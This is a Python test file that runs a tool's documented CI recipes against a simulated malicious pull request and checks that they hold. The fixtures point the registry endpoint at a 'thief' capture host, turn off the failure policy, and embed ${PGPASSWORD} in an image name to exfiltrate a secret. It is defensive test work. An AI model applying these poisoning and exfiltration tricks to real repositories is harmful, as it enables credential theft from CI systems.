"""The recipes of docs/trust.md, run as they stand, on a pull request that means no good."""

from __future__ import annotations

import re
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.hostile.victim import Capture, Victim
from tests.paths import ROOT

TEXT = (ROOT / "docs" / "trust.md").read_text(encoding="utf-8")
SAMPLES = re.findall(r"```yaml\n(.*?)```", TEXT, re.DOTALL)


def commands(sample: Any) -> list[str]:
    """Every line of shell in a sample."""
    found: list[str] = []
    if isinstance(sample, dict):
        for key, value in sample.items():
            if key in ("run", "script"):
                found += [value] if isinstance(value, str) else value
            else:
                found += commands(value)
    elif isinstance(sample, list):
        for one in sample:
            found += commands(one)
    return found


RECIPES = [commands(yaml.safe_load(sample)) for sample in SAMPLES]


def test_no_recipe_names_a_file_of_the_checkout() -> None:
    assert len(RECIPES) == 3
    for line in (line for recipe in RECIPES for line in recipe):
        for flag in ("--config ", "--baseline", "--config=", "TAGWATCH_CONFIG", "--policy"):
            assert flag not in line
        if "tagwatch" in line:
            assert "--untrusted" in line
            assert "--config-from" in line


@pytest.mark.parametrize("recipe", RECIPES, ids=["github", "gitlab", "self-hosted"])
async def test_a_recipe_holds(
    victim: Victim, thief: Capture, tmp_path: Path, recipe: list[str]
) -> None:
    """The author turns the rule off, redirects the Hub and names a variable: in vain."""
    victim.write("tagwatch.yaml", "policy: policy.yaml\n")
    victim.write("policy.yaml", "rules: {tag-latest: {severity: error}}\n")
    victim.write("Dockerfile", "FROM scratch\n")
    victim.commit()
    origin = tmp_path / "origin.git"
    victim.git("clone", "--quiet", "--bare", ".", str(origin))
    victim.git("remote", "add", "origin", str(origin))
    victim.git("fetch", "--quiet", "origin")
    victim.write(
        "tagwatch.yaml", f"registries: {{docker.io: {{endpoint: 'http://{thief.host}'}}}}\n"
    )
    victim.write("policy.yaml", "fail_on: never\n")
    victim.write("Dockerfile", f"FROM {thief.host}/team/app:latest\n")
    victim.write(
        "compose.yaml", f"services: {{a: {{image: '{thief.host}/x/${{PGPASSWORD}}:1'}}}}\n"
    )
    victim.commit()
    program = victim.write(
        "../bin/tagwatch", f'#!/bin/sh\nexec {sys.executable} -m tagwatch "$@"\n'
    )
    program.chmod(0o755)
    script = "; ".join(["set -e", f"PATH={program.parent}:$PATH", *recipe])
    victim.environment |= {"DEFAULT": "main", "CI_DEFAULT_BRANCH": "main"}
    done = await victim.python(
        "-c", "import os, sys; os.execvp('sh', ['sh', '-c', sys.argv[1]])", script
    )
    thief.tells_nothing()
    assert done.code == 1, done.err
    assert "tag-latest" in done.out
    assert "plantedpostgres" not in done.out + done.err
